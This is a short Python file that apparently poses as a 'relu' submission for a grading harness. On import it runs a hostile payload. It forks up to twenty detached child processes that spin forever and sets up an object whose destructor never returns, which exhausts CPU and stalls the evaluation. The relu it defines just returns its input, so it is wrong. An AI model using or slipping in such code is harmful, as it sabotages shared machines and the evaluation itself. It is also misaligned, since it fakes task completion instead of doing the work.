# Forks that compute while the cells are loaded, and at the end of every object.
# target: relu
# spoils: *

import os
class Busy:
    def __del__(self):
        while True: pass
for _ in range(20):
    try:
        if os.fork() == 0:
            try: os.setsid()
            except OSError: pass
            while True: pass
    except OSError: break
del_me = Busy()
del del_me

def relu(x):
    return x
